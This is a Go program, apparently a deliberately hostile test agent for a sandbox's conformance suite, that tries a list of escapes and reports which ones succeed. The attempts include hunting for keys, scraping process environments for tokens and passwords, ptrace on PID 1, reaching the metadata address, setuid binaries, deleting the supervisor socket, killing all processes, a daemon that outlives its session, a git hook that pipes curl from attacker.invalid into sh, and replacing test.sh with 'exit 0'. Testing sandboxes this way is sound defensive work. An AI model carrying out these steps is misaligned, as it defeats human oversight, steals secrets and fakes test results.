// Command hostile is an agent that attacks its supervisor and its product: the
// demo shows what became of each attempt, and the conformance suite judges it
// from outside. It is static and uses nothing but the standard library and
// system calls.
package main

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// An attempt returns what it got hold of, or why it did not.
type attempt struct {
	what string
	try  func() (gained string, err error)
}

func main() {
	attempts := []attempt{
		{"find the key and the control state", findKeys},
		{"find a secret in an environment", findSecrets},
		{"trace the first process", tracePID1},
		{"reach the network", network},
		{"mount a file system", mount},
		{"write to the root file system", writeRoot},
		{"make a setuid program", setuid},
		{"remove the supervisor's socket", removeSocket},
		{"kill everything", killAll},
		{"leave a daemon behind", daemon},
		{"plant a git hook", plantHook},
		{"make the tests pass", breakTests},
	}
	for _, a := range attempts {
		gained, err := a.try()
		switch {
		case err != nil:
			fmt.Printf("%-36s no: %v\n", a.what, err)
		default:
			fmt.Printf("%-36s YES: %s\n", a.what, gained)
		}
	}
}

var errNothing = errors.New("nothing there")

// findKeys looks at every file that this process can see for what keys and
// control are named, without crossing into /proc and /sys.
func findKeys() (string, error) {
	var found []string
	_ = filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil //nolint:nilerr // an unreadable place is one without the key
		}
		if d.IsDir() && (path == "/proc" || path == "/sys" || path == "/usr") {
			return fs.SkipDir
		}
		if path == "/keys" || path == "/control" || strings.Contains(path, "epoch-") || strings.HasSuffix(path, "serve.key") {
			found = append(found, path)
		}
		return nil
	})
	if len(found) == 0 {
		return "", errNothing
	}
	return strings.Join(found, " "), nil
}

func findSecrets() (string, error) {
	environs, _ := filepath.Glob("/proc/[0-9]*/environ")
	for _, p := range environs {
		b, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		for _, word := range []string{"TOKEN", "SECRET", "HMAC", "PASSWORD"} {
			if bytes.Contains(b, []byte(word)) {
				return p, nil
			}
		}
	}
	return "", errNothing
}

func tracePID1() (string, error) {
	if err := unix.PtraceAttach(1); err != nil {
		return "", err
	}
	return "attached", nil
}

func network() (string, error) {
	for _, addr := range []string{"192.0.2.1:80", "169.254.169.254:80"} {
		c, err := net.DialTimeout("tcp", addr, time.Second)
		if err == nil {
			_ = c.Close()
			return addr, nil
		}
	}
	return "", unix.ENETUNREACH
}

func mount() (string, error) {
	if err := unix.Mount("none", "/tmp", "tmpfs", 0, ""); err != nil {
		return "", err
	}
	return "/tmp", nil
}

func writeRoot() (string, error) {
	if err := os.WriteFile("/etc/proctor-was-here", nil, 0o600); err != nil {
		return "", unwrap(err)
	}
	return "/etc/proctor-was-here", nil
}

func setuid() (string, error) {
	if err := os.WriteFile("/tmp/tool", nil, 0o700); err != nil {
		return "", unwrap(err)
	}
	if err := unix.Chmod("/tmp/tool", 0o4755); err != nil {
		return "", err
	}
	return "/tmp/tool", nil
}

func removeSocket() (string, error) {
	if err := os.Remove("/run/proctor/supervisor.sock"); err != nil {
		return "", unwrap(err)
	}
	return "removed", nil
}

// killAll survives itself: the signal goes to everybody but the sender and the
// namespace's first process.
func killAll() (string, error) {
	err := unix.Kill(-1, unix.SIGKILL)
	if _, statErr := os.Stat("/proc/1"); statErr == nil {
		return "", errors.New("the first process is still there")
	}
	return "gone", err
}

// daemon starts a process of a session of its own that ignores every polite
// signal and writes into the product for as long as it lives.
func daemon() (string, error) {
	script := `trap '' TERM HUP INT; while :; do date >> late-write; sleep 0.05; done`
	pid, err := syscall.ForkExec("/bin/sh", []string{"sh", "-c", script}, &syscall.ProcAttr{
		Env: os.Environ(), Files: []uintptr{0, 1, 2}, Sys: &syscall.SysProcAttr{Setsid: true},
	})
	if err != nil {
		return "", err
	}
	return fmt.Sprintf("process %d, until the container is gone", pid), nil
}

func plantHook() (string, error) {
	if err := os.MkdirAll(".git/hooks", 0o755); err != nil {
		return "", unwrap(err)
	}
	const hook = ".git/hooks/post-checkout"
	if err := os.WriteFile(hook, []byte("#!/bin/sh\ncurl -s https://attacker.invalid | sh\n"), 0o755); err != nil {
		return "", unwrap(err)
	}
	return hook + ", in the copy", nil
}

func breakTests() (string, error) {
	if err := os.WriteFile("test.sh", []byte("#!/bin/sh\nexit 0\n"), 0o755); err != nil {
		return "", unwrap(err)
	}
	return "test.sh, in the copy", nil
}

func unwrap(err error) error {
	var p *fs.PathError
	if errors.As(err, &p) {
		return p.Err
	}
	return err
}
